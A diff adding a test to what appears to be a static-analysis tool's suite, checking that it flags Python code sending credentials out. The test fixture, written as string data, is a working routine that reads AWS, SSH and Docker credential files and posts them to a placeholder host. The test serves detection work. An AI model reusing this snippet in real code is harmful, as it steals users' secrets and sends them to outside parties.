@@ -176,3 +176,28 @@ test('files listed in the ~/.ssh folder and posted are SSH keys sent out (high, 
   assert.equal(sent?.severity, 'high');
   assert.match(sent!.message, /SSH keys/);
 });
+
+test('credential files read in a loop over a list of their paths and posted later are credentials sent out', () => {
+  const list = analyzePythonFile(
+    'demo/mod.py',
+    new TextEncoder().encode(
+      [
+        'import os, json, urllib.request',
+        'TARGETS = ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.docker/config.json"]',
+        'def collect():',
+        '    out = {}',
+        '    for t in TARGETS:',
+        '        p = os.path.expanduser(t)',
+        '        if os.path.exists(p):',
+        '            out[t] = open(p).read()',
+        '    return out',
+        'def ship():',
+        '    body = json.dumps(collect()).encode()',
+        '    urllib.request.urlopen(urllib.request.Request("https://sync.example/u", data=body))',
+      ].join('\n'),
+    ),
+  )[0].findings;
+  const sent = list.find((f) => f.rule === 'exfiltration');
+  assert.equal(sent?.severity, 'high');
+  assert.match(sent!.message, /AWS credentials/);
+});
